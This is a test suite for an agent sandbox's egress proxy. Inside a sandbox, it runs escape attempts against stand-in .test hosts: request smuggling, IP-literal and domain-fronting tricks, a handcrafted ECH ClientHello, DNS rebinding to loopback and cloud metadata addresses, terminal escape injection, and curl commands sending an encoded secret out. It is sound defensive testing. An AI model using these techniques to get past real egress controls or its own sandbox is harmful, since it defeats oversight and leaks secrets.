import { afterAll, beforeAll, expect, test } from "bun:test";
import { runBottle } from "../../helpers/cli.ts";
import { describeDocker, docker } from "../../helpers/docker.ts";
import {
  type Attacker,
  type World,
  SETUP_TIMEOUT_MS,
  bulkPattern,
  COUNTED_LINE_MS,
  TEST_TIMEOUT_MS,
  deniedCount,
  encodings,
  gateResolves,
  startWorld,
  tearDown,
  upAttacker,
} from "../../helpers/escape-world.ts";
import { makeTestCa } from "../../helpers/tls.ts";

/**
 * Escapes through the egress gate's proxy: hosts off the list, tunnels to
 * other ports or of other protocols, request smuggling, IP literals, domain
 * fronting, Host-header spoofing, allowed names that resolve to
 * private / loopback / metadata addresses, and the bottle's own secret
 * smuggled out in a request to an allowed host. Every attack runs inside a
 * bottle (as the agent user, through `bottle exec`) and must be refused with
 * the gate's audit line naming the rule; the world container logs every
 * request it receives, so "the upstream saw nothing" is checked, not assumed.
 */

const SECRET = `esc-${crypto.randomUUID().replace(/-/g, "").slice(0, 24)}`;

/**
 * A TLS 1.3 client that goes no further than its ClientHello (Python, in the
 * attacker bottle): CONNECT argv[1]:443 through the gate, then a ClientHello
 * naming argv[1] in its SNI and carrying an encrypted_client_hello extension
 * (outer, with a random payload) unless argv[2] is --without-ech. Prints the
 * CONNECT reply line and everything the tunnel answers (hex) until it closes
 * or 2 s pass.
 */
const ECH_CLIENT = `
import os, socket, struct, sys
host = sys.argv[1].encode(); ech = "--without-ech" not in sys.argv
def ext(kind, body): return struct.pack("!HH", kind, len(body)) + body
def vec16(body): return struct.pack("!H", len(body)) + body
exts = ext(0, vec16(b"\\x00" + vec16(host)))
exts += ext(10, vec16(b"\\x00\\x1d"))  # supported_groups: x25519
exts += ext(13, vec16(b"\\x04\\x03\\x08\\x04"))  # signature_algorithms
exts += ext(43, b"\\x02\\x03\\x04")  # supported_versions: TLS 1.3
exts += ext(51, vec16(b"\\x00\\x1d" + vec16(os.urandom(32))))  # key_share
if ech: exts += ext(0xfe0d, b"\\x00" + struct.pack("!HHB", 1, 1, 42) + vec16(os.urandom(32)) + vec16(os.urandom(144)))
body = b"\\x03\\x03" + os.urandom(32) + b"\\x20" + os.urandom(32) + vec16(b"\\x13\\x01") + b"\\x01\\x00" + vec16(exts)
handshake = b"\\x01" + struct.pack("!I", len(body))[1:] + body
s = socket.create_connection(("gate", 3128), timeout=2)
s.sendall(b"CONNECT " + host + b":443 HTTP/1.1\\r\\nHost: " + host + b":443\\r\\n\\r\\n")
reply = b""
while b"\\r\\n\\r\\n" not in reply: reply += s.recv(4096)
print("reply", reply.split(b"\\r\\n")[0].decode())
s.sendall(b"\\x16\\x03\\x01" + vec16(handshake))
answer = b""
try:
    while True:
        chunk = s.recv(4096)
        if not chunk: break
        answer += chunk
except socket.timeout:
    pass
print("answer", answer.hex())
`;

describeDocker("escape through the egress proxy", () => {
  let attacker: Attacker;
  let world: World;

  const rulesOf = (text: string) => [...text.matchAll(/X-Bottle-Egress-Rule: (\S+)/gi)].map((m) => m[1]);

  beforeAll(async () => {
    attacker = await upAttacker({
      prefix: "esc-proxy",
      sandboxEnv: { ESCAPE_SECRET: SECRET },
      manifest: [
        "egress:",
        "  allow: [allowed.test, private-only.test, rebind-loopback.test, rebind-metadata.test]",
        // rebind-metadata.test is opted in to private addresses: a name entry must still never unlock metadata.
        "  allow_private: [allowed.test, rebind-metadata.test]",
        "env:",
        "  LEAK_ME: ${ESCAPE_SECRET}",
      ],
    });
    const ca = makeTestCa();
    world = startWorld(attacker, ["allowed.test", "denied.test", "denied-sni.test", "private-only.test"], ca.issue(["allowed.test", "denied.test", "denied-sni.test"]));
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    world?.remove();
    if (attacker) await tearDown(attacker.sandbox, [attacker.name], [attacker.agent]);
  }, SETUP_TIMEOUT_MS);

  test("control: the allowed host answers over HTTP and HTTPS through the gate", async () => {
    const out = await attacker.sh(
      "curl -sS --connect-timeout 2 --max-time 5 http://allowed.test/control; curl -sS -k --connect-timeout 2 --max-time 5 https://allowed.test/control-tls",
    );
    expect(out.stdout).toContain("hello from allowed.test /control");
    expect(out.stdout).toContain("secure hello from allowed.test /control-tls");
    expect(world.events().some((e) => e.ev === "tls-handshake" && e.sni === "allowed.test")).toBe(true);
  }, TEST_TIMEOUT_MS);

  test("control: bulk downloads over HTTP and HTTPS arrive whole and counted, copied in the gate's kernel once bulky", async () => {
    const mb = 24;
    const expected = new Bun.CryptoHasher("sha256").update(bulkPattern(mb)).digest("hex");
    const downloads = attacker.sh(
      `curl -sS --max-time 60 -o /tmp/bulk-http 'http://allowed.test/bulk?mb=${mb}&stall=2000' & ` +
        `curl -sS -k --max-time 60 -o /tmp/bulk-https 'https://allowed.test/bulk?mb=${mb}&stall=2000' & ` +
        "wait; sha256sum /tmp/bulk-http /tmp/bulk-https",
    );
    // While both wait for their last MB, each download is held by a bottle-splice process in the gate.
    const copiers = (): number =>
      Number(docker("exec", `${attacker.name}-gate`, "sh", "-c", "cat /proc/[0-9]*/comm 2>/dev/null | grep -c '^bottle-splice$' || true"));
    let seen = 0;
    for (let i = 0; i < 100 && seen < 2; i++) {
      seen = copiers();
      if (seen < 2) await Bun.sleep(50);
    }
    const out = await downloads;
    expect(seen).toBe(2);
    expect(out.stdout).toContain(`${expected}  /tmp/bulk-http`);
    expect(out.stdout).toContain(`${expected}  /tmp/bulk-https`);
    const http = await attacker.waitAudit((l) => l.method === "GET" && l.path === "/bulk");
    const tunnel = await attacker.waitAudit((l) => l.method === "CONNECT" && l.host === "allowed.test" && (l.bytesIn ?? 0) > mb * 1048576);
    expect(http).toMatchObject({ decision: "allow", status: 200, end: "closed" });
    expect(http?.bytesIn).toBeGreaterThan(mb * 1048576);
    expect(tunnel).toMatchObject({ decision: "allow" });
    expect(copiers()).toBe(0);
  }, TEST_TIMEOUT_MS);

  test("1. a host off the allowlist: HTTP and CONNECT get 403 not-allowed, audited, and the world never sees them", async () => {
    const out = await attacker.sh(
      "curl -sS -i --connect-timeout 2 --max-time 5 http://denied.test/case1; echo; " +
        "curl -sS -k --connect-timeout 2 --max-time 5 -o /dev/null -w 'connect=%{http_connect}\\n' https://denied.test/case1-tls; echo rc=$?",
    );
    expect(out.stdout).toContain("HTTP/1.1 403 Forbidden");
    expect(rulesOf(out.stdout)).toEqual(["not-allowed"]);
    expect(out.stdout).toContain("denied.test is not on this bottle's allowlist (rule: not-allowed)");
    expect(out.stdout).toContain(`bottle allow ${attacker.name} denied.test`);
    expect(out.stdout).toContain("connect=403");
    expect(out.stdout).not.toContain("rc=0");

    const audit = attacker.audit();
    expect(audit).toContainEqual(expect.objectContaining({ method: "GET", host: "denied.test", port: 80, path: "/case1", decision: "deny", rule: "not-allowed" }));
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "denied.test", port: 443, decision: "deny", rule: "not-allowed" }));
    // The same lines through the CLI.
    const logs = await runBottle(attacker.sandbox, ["logs", attacker.name, "--gate", "egress", "--json"]);
    const lines = logs.stdout.split("\n").filter(Boolean).map((line) => JSON.parse(line));
    expect(lines.filter((l) => l.host === "denied.test" && l.decision === "deny" && l.rule === "not-allowed").map((l) => l.method).sort()).toEqual(["CONNECT", "GET"]);

    const events = world.events();
    expect(events.filter((e) => e.host?.startsWith("denied.test") || e.url?.startsWith("/case1"))).toEqual([]);
    expect(events.filter((e) => e.ev === "tls-handshake" && e.sni === "denied.test")).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("1. tunnels: CONNECT to an allowed host's other ports, or carrying anything but TLS, is refused", async () => {
    const out = await attacker.sh(
      // CONNECT allowed.test:22 (an SSH tunnel), raw.
      "printf 'CONNECT allowed.test:22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n' | nc -w 3 gate 3128 | grep -i -m1 '^X-Bottle-Egress-Rule'; " +
        // CONNECT allowed.test:80, then plain HTTP inside the tunnel.
        "curl -sS -p --connect-timeout 2 --max-time 5 http://allowed.test/tunnel; echo rc=$?",
    );
    expect(rulesOf(out.stdout)).toEqual(["port-not-allowed"]);
    expect(out.stdout).not.toContain("hello from");
    expect(out.stdout).not.toContain("rc=0");
    const audit = attacker.audit();
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "allowed.test", port: 22, decision: "deny", rule: "port-not-allowed" }));
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "allowed.test", port: 80, decision: "deny", rule: "not-tls" }));
    expect(world.events().filter((e) => e.ev === "tcp" || e.url === "/tunnel")).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("1. request smuggling: nothing but the one checked request reaches the upstream", async () => {
    const requests = [
      // A second request pipelined behind an allowed one: absolute-form to a denied host, and origin-form.
      "GET http://allowed.test/smuggle-a HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" +
        "GET http://denied.test/smuggle-b HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n" +
        "GET /smuggle-c HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n",
      // A request hidden behind the declared body.
      "POST http://allowed.test/smuggle-d HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\n\\r\\nabcdGET /smuggle-e HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n",
      // Ambiguous framing (CL.TE).
      "POST http://allowed.test/smuggle-f HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggle-g HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n",
    ];
    const out = await attacker.sh(requests.map((request) => `printf '${request}' | nc -w 3 gate 3128; echo`).join("; "));
    expect(out.stdout).toContain("hello from allowed.test /smuggle-a");
    expect(out.stdout).toContain("hello from allowed.test /smuggle-d");
    expect(rulesOf(out.stdout)).toEqual(["bad-request"]);
    const seen = world.events().filter((e) => e.url?.includes("smuggle"));
    expect(seen.map((e) => `${e.host} ${e.url} ${e.body}`).sort()).toEqual(["allowed.test /smuggle-a ", "allowed.test /smuggle-d abcd"]);
  }, TEST_TIMEOUT_MS);

  // KNOWN HOLE (fails until fixed): the request target may hold bytes
  // 0x80-0xff; the gate logs the path latin1-decoded, so a raw 0x9b byte
  // becomes U+009B (8-bit CSI) in egress.jsonl and in `bottle logs`, which
  // terminals that honour UTF-8-encoded C1 controls (xterm, urxvt) execute.
  test("1. the audit log and `bottle logs` carry no terminal control characters from a request", async () => {
    // CSI 2J (clear screen), CSI H, OSC 2;title ST — as 8-bit C1 controls in the path of a denied request.
    await attacker.sh("printf 'GET http://denied.test/term\\2332J\\233H\\2352;pwned\\234 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n' | nc -w 3 gate 3128 >/dev/null");
    // A repeat of test 1's denial (GET denied.test:80) may be counted, and written when its interval ends.
    const line = await attacker.waitAudit((l) => l.path?.startsWith("/term") === true, COUNTED_LINE_MS);
    expect(line).toEqual(expect.objectContaining({ host: "denied.test", decision: "deny", rule: "not-allowed" }));
    const plain = await runBottle(attacker.sandbox, ["logs", attacker.name, "--gate", "egress"]);
    const json = await runBottle(attacker.sandbox, ["logs", attacker.name, "--gate", "egress", "--json"]);
    const controls = (text: string) => [...text.matchAll(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/g)].map((m) => `U+${m[0].charCodeAt(0).toString(16).padStart(4, "0")}`);
    expect({ "bottle logs": controls(plain.stdout), "bottle logs --json": controls(json.stdout), "egress.jsonl": controls(attacker.auditText()) }).toEqual({
      "bottle logs": [],
      "bottle logs --json": [],
      "egress.jsonl": [],
    });
  }, TEST_TIMEOUT_MS);

  test("2. IP literals in every spelling, plain HTTP and CONNECT: 403 ip-literal", async () => {
    const ip = world.ip;
    const octets = ip.split(".").map(Number);
    const spellings = [
      ip,
      String(octets.reduce((n, o) => n * 256 + o, 0)), // 3232251907
      octets.map((o) => `0x${o.toString(16)}`).join("."), // 0xc0.0xa8.…
      octets.map((o) => `0${o.toString(8)}`).join("."), // octal
      `[::ffff:${ip}]`,
    ];
    const raw = spellings
      .map((host) => `printf 'GET http://%s/case2 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' '${host}' '${host}' | nc -w 3 gate 3128 | grep -i -m1 '^X-Bottle-Egress-Rule'`)
      .join("; ");
    const out = await attacker.sh(
      `curl -sS -i --connect-timeout 2 --max-time 5 http://${ip}/case2; ${raw}; ` +
        `curl -sS -k --connect-timeout 2 --max-time 5 -o /dev/null -w 'connect=%{http_connect}\\n' https://${ip}/case2-tls; echo rc=$?`,
    );
    expect(out.stdout).toContain(`${ip} is an IP address; IP addresses are refused unless listed explicitly (rule: ip-literal)`);
    expect(rulesOf(out.stdout)).toEqual(new Array(spellings.length + 1).fill("ip-literal"));
    expect(out.stdout).toContain("connect=403");
    expect(out.stdout).not.toContain("rc=0");

    // Every spelling is normalised to the dotted address in the audit line, so all but the
    // first are repeats of one denial: counted on one line when their interval ends.
    const plain = await attacker.waitDenials((l) => l.rule === "ip-literal" && l.method === "GET" && l.path === "/case2", spellings.length + 1);
    expect(deniedCount(plain)).toBe(spellings.length + 1);
    expect(plain.map((l) => l.host)).toEqual(new Array(plain.length).fill(ip));
    expect(attacker.audit().filter((l) => l.rule === "ip-literal")).toContainEqual(expect.objectContaining({ method: "CONNECT", host: ip, port: 443, decision: "deny" }));
    expect(world.events().filter((e) => e.url?.startsWith("/case2"))).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("2. domain fronting: CONNECT to an allowed name with another SNI (or none) is cut before a byte reaches the upstream", async () => {
    const tlsBefore = world.events().filter((e) => e.ev.startsWith("tls")).length;
    const out = await attacker.sh(
      // CONNECT allowed.test:443, ClientHello for denied-sni.test.
      "curl -sS -k --connect-timeout 2 --max-time 5 --connect-to denied-sni.test:443:allowed.test:443 https://denied-sni.test/front; echo rc=$?; " +
        // CONNECT allowed.test:443, an IP-literal URL: curl sends no SNI at all.
        `curl -sS -k --connect-timeout 2 --max-time 5 --connect-to ::allowed.test:443 https://${world.ip}/nosni; echo rc=$?`,
    );
    expect(out.stdout).toContain("rc=35");
    expect(out.stdout).not.toContain("rc=0");
    expect(out.stdout).not.toContain("hello");
    expect(out.stderr).toContain("access denied");

    const audit = attacker.audit();
    expect(audit).toContainEqual(
      expect.objectContaining({ method: "CONNECT", host: "allowed.test", port: 443, decision: "deny", rule: "sni-mismatch", detail: "ClientHello names denied-sni.test" }),
    );
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "allowed.test", port: 443, decision: "deny", rule: "sni-missing" }));
    // Not even a TCP connection reached the upstream.
    expect(world.events().filter((e) => e.ev.startsWith("tls")).length).toBe(tlsBefore);
    expect(world.events().filter((e) => e.url === "/front" || e.url === "/nosni")).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("2. Encrypted Client Hello: a ClientHello carrying ECH (0xfe0d) behind an allowed SNI is refused with a TLS alert before a byte reaches the upstream", async () => {
    const tlsBefore = world.events().filter((e) => e.ev.startsWith("tls")).length;
    // CONNECT allowed.test:443, then a ClientHello whose outer SNI is allowed.test and
    // which carries an encrypted_client_hello extension (the real server name would be inside).
    const out = await attacker.py(ECH_CLIENT, "allowed.test");
    expect(out.stderr).toBe("");
    expect(out.stdout.trim().split("\n")).toEqual([
      "reply HTTP/1.1 200 Connection established",
      // The gate's TLS alert (fatal, access_denied), then the end of the tunnel.
      "answer 15030300020231",
    ]);
    expect(attacker.audit()).toContainEqual(
      expect.objectContaining({ method: "CONNECT", host: "allowed.test", port: 443, decision: "deny", rule: "tls-ech", detail: expect.stringContaining("Encrypted Client Hello") }),
    );
    // Not even a TCP connection reached the upstream.
    expect(world.events().filter((e) => e.ev.startsWith("tls")).length).toBe(tlsBefore);
    // Control: the same client without the ECH extension is spliced through, and the world sees it.
    const plain = await attacker.py(ECH_CLIENT, "allowed.test", "--without-ech");
    expect(plain.stdout).toContain("reply HTTP/1.1 200 Connection established");
    // The world's ServerHello: the same ClientHello is one a real TLS server accepts.
    expect(plain.stdout).toMatch(/^answer 160303[0-9a-f]{4}02/m);
    expect(world.events().filter((e) => e.ev === "tls-connection").length).toBeGreaterThan(0);
    expect(world.events().filter((e) => e.ev.startsWith("tls")).length).toBeGreaterThan(tlsBefore);
  }, TEST_TIMEOUT_MS);

  test("2. Host-header spoofing: an allowed URI with another Host (or two Hosts, or userinfo) is refused", async () => {
    const rawRequests = [
      "GET http://allowed.test/spoof2 HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: denied.test\\r\\n\\r\\n",
      "GET http://allowed.test@denied.test/spoof3 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n",
      "GET http://allowed.test/spoof4 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n",
    ];
    const out = await attacker.sh(
      "curl -sS -i --connect-timeout 2 --max-time 5 -H 'Host: denied.test' http://allowed.test/spoof1; " +
        rawRequests.map((request) => `printf '${request}' | nc -w 3 gate 3128 | grep -i -m1 '^X-Bottle-Egress-Rule'`).join("; "),
    );
    expect(out.stdout).toContain("the Host header does not match allowed.test, the host in the request URI (rule: host-header-mismatch)");
    expect(rulesOf(out.stdout)).toEqual(["host-header-mismatch", "bad-request", "bad-request", "host-header-mismatch"]);
    expect(attacker.audit()).toContainEqual(
      expect.objectContaining({ method: "GET", host: "allowed.test", path: "/spoof1", decision: "deny", rule: "host-header-mismatch" }),
    );
    expect(world.events().filter((e) => e.url?.startsWith("/spoof"))).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("3. an allowed name that resolves to a private address (not in allow_private) is refused after resolution", async () => {
    // The name is real: Docker's DNS gives the gate the world container's private address.
    expect(docker("exec", `${attacker.name}-gate`, "getent", "hosts", "private-only.test")).toContain(world.ip);
    const out = await attacker.sh(
      "curl -sS -i --connect-timeout 2 --max-time 5 http://private-only.test/case3; " +
        "curl -sS -k --connect-timeout 2 --max-time 5 -o /dev/null -w 'connect=%{http_connect}\\n' https://private-only.test/case3-tls; " +
        "getent hosts private-only.test; echo getent=$?",
    );
    expect(out.stdout).toContain("private-only.test resolves to a private address, which a bottle may not reach (rule: private-address)");
    expect(rulesOf(out.stdout)).toEqual(["private-address"]);
    expect(out.stdout).toContain("connect=403");
    // The gate's DNS never hands the bottle a real address: it answers with its own.
    expect(out.stdout).toMatch(new RegExp(`^${attacker.gateIp.replace(/\./g, "\\.")}\\s+private-only\\.test$`, "m"));
    expect(out.stdout).toContain("getent=0");
    expect(out.stdout).not.toContain(world.ip);

    const audit = attacker.audit().filter((l) => l.host === "private-only.test");
    expect(audit).toContainEqual(
      expect.objectContaining({ method: "GET", port: 80, decision: "deny", rule: "private-address", detail: expect.stringContaining(`${world.ip} is private`) }),
    );
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", port: 443, decision: "deny", rule: "private-address" }));
    expect(world.events().filter((e) => e.host?.startsWith("private-only.test") || e.url?.startsWith("/case3"))).toEqual([]);
  }, TEST_TIMEOUT_MS);

  test("3. allowed names answered with 127.0.0.1 or 169.254.169.254 are refused, metadata even when the name is in allow_private", async () => {
    // Docker's DNS cannot answer with these addresses; the gate's system
    // resolver is made to, through its /etc/hosts (see gateResolves).
    gateResolves(attacker, { "rebind-loopback.test": "127.0.0.1", "rebind-metadata.test": "169.254.169.254" });
    const out = await attacker.sh(
      "curl -sS -i --connect-timeout 2 --max-time 5 http://rebind-loopback.test:80/; " +
        "curl -sS -i --connect-timeout 2 --max-time 5 http://rebind-metadata.test/latest/meta-data/; " +
        "curl -sS -k --connect-timeout 2 --max-time 5 -o /dev/null -w 'connect=%{http_connect}\\n' https://rebind-metadata.test/",
    );
    expect(out.stdout).toContain("rebind-loopback.test resolves to a loopback address");
    expect(out.stdout).toContain("rebind-metadata.test resolves to a metadata address");
    expect(rulesOf(out.stdout)).toEqual(["private-address", "private-address"]);
    expect(out.stdout).toContain("connect=403");
    const audit = attacker.audit();
    expect(audit).toContainEqual(
      expect.objectContaining({ host: "rebind-loopback.test", decision: "deny", rule: "private-address", detail: "127.0.0.1 is loopback (127.0.0.0/8)" }),
    );
    expect(audit).toContainEqual(
      expect.objectContaining({ method: "GET", host: "rebind-metadata.test", decision: "deny", rule: "private-address", detail: expect.stringContaining("169.254.169.254 is metadata") }),
    );
    expect(audit).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "rebind-metadata.test", decision: "deny", rule: "private-address" }));
  }, TEST_TIMEOUT_MS);

  test("6. the bottle's secret in path, query or headers, plain or encoded, is refused (dlp-secret) and reaches neither the world nor any log", async () => {
    // The encodings are computed inside the bottle from $LEAK_ME: the secret
    // never appears on a command line of this test either.
    const forms: Record<string, string> = {
      plain: 'printf %s "$LEAK_ME"',
      base64: 'printf %s "$LEAK_ME" | base64 -w0',
      "base64 unpadded": "printf %s \"$LEAK_ME\" | base64 -w0 | tr -d '='",
      base64url: "printf %s \"$LEAK_ME\" | base64 -w0 | tr '+/' '-_' | tr -d '='",
      hex: "printf %s \"$LEAK_ME\" | od -An -tx1 | tr -d ' \\n'",
      "HEX upper": "printf %s \"$LEAK_ME\" | od -An -tx1 | tr -d ' \\n' | tr a-f A-F",
      "percent-encoded": "printf %s \"$LEAK_ME\" | od -An -tx1 | tr -d '\\n' | sed 's/ /%/g'",
      "double percent-encoded": "printf %s \"$LEAK_ME\" | od -An -tx1 | tr -d '\\n' | sed 's/ /%25/g'",
    };
    const places: Record<string, string> = {
      path: `http://allowed.test/dlp/"$v"/x`,
      query: `http://allowed.test/dlp?q="$v"`,
      header: `-H "X-Data: $v" http://allowed.test/dlp`,
      cookie: `-H "Cookie: session=$v" http://allowed.test/dlp`,
      "user-agent": `-A "agent/$v" http://allowed.test/dlp`,
    };
    const request = (id: string, args: string, kind = "dlp-attack") =>
      `printf '\\nCASE ${id} '; curl -sS --connect-timeout 2 --max-time 5 -H 'X-Case: ${kind}' -D /tmp/h -o /tmp/b -w '%{http_code} ' ${args}; ` +
      "grep -i '^X-Bottle-Egress-Rule' /tmp/h | tr -d '\\r'; cat /tmp/b";
    const script = [
      // The same shape with a harmless value goes through: the refusals below are DLP's doing.
      `v=harmless-value; ${request("control", places.query!, "dlp-control")}`,
      ...Object.entries(forms).flatMap(([form, command]) =>
        Object.entries(places).map(([place, args]) => `v=$(${command}); ${request(`${form}/${place}`.replace(/ /g, "-"), args)}`),
      ),
      request("basic-auth", '-u "user:$LEAK_ME" http://allowed.test/dlp'),
      request("bearer", '-H "Authorization: Bearer $LEAK_ME" http://allowed.test/dlp'),
      // In the name itself (DLP runs before the allowlist, so the log shows <redacted>).
      request("host", 'http://"$LEAK_ME".allowed.test/dlp'),
      // In the CONNECT request's headers.
      `printf '\\nCASE connect-header '; curl -sS -k --connect-timeout 2 --max-time 5 --proxy-header "X-Data: $LEAK_ME" -o /dev/null -w '%{http_connect}' https://allowed.test/dlp-tls`,
      "echo",
    ].join("\n");
    const out = await attacker.sh(script);
    const cases = new Map(
      out.stdout
        .split("\nCASE ")
        .slice(1)
        .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1)]),
    );
    expect(cases.size).toBe(1 + Object.keys(forms).length * Object.keys(places).length + 4);
    expect(cases.get("control")).toContain("200");
    expect(cases.get("control")).toContain("hello from allowed.test /dlp?q=harmless-value");
    for (const [id, result] of cases) {
      if (id === "control") continue;
      if (id === "connect-header") {
        expect(result.trim()).toBe("403");
        continue;
      }
      expect({ id, result: result.slice(0, 40) }).toEqual({ id, result: expect.stringMatching(/^403 X-Bottle-Egress-Rule: dlp-secret/i) });
      expect(result).toContain("carries what looks like one of this bottle's secrets");
    }
    // Repeats of one denial (same method, host, port, rule) are counted on one line, written
    // when their interval ends: waited for first, so the checks below see those lines too.
    const dlp = await attacker.waitDenials((l) => l.rule === "dlp-secret", cases.size - 1);
    // Neither the 403 bodies, nor the world, nor the audit log hold the secret in any form.
    const forbidden = Object.values(encodings(SECRET));
    const worldLogs = world.logs();
    const auditText = attacker.auditText();
    const logs = await runBottle(attacker.sandbox, ["logs", attacker.name, "--gate", "egress", "--json"]);
    for (const form of forbidden) {
      expect(out.stdout).not.toContain(form);
      expect(worldLogs).not.toContain(form);
      expect(auditText).not.toContain(form);
      expect(logs.stdout).not.toContain(form);
    }
    expect(world.events().filter((e) => e.headers?.["x-case"] === "dlp-attack")).toEqual([]);
    expect(world.events().filter((e) => e.headers?.["x-case"] === "dlp-control")).toHaveLength(1);
    expect(deniedCount(dlp)).toBe(cases.size - 1);
    for (const line of dlp.filter((l) => l.method === "GET")) expect(line.path).toBe("<redacted>");
    expect(dlp).toContainEqual(expect.objectContaining({ host: "<redacted>", decision: "deny" }));
    expect(dlp).toContainEqual(expect.objectContaining({ method: "CONNECT", host: "allowed.test", decision: "deny" }));
  }, TEST_TIMEOUT_MS);
});
